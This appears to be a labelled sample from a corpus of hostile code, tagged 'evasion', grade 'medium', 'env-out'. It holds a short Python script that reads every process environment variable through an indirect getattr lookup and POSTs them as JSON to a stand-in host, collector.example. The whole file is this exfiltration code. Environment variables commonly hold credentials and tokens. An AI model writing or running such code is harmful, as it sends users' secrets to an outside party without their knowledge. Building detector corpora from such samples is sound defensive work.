# evasion: the environment fetched with getattr and posted as JSON
# grade: medium; does: env-out
import json
import os
import urllib.request

payload = json.dumps(dict(getattr(os, "environ"))).encode()
urllib.request.urlopen("http://collector.example/e", data=payload)
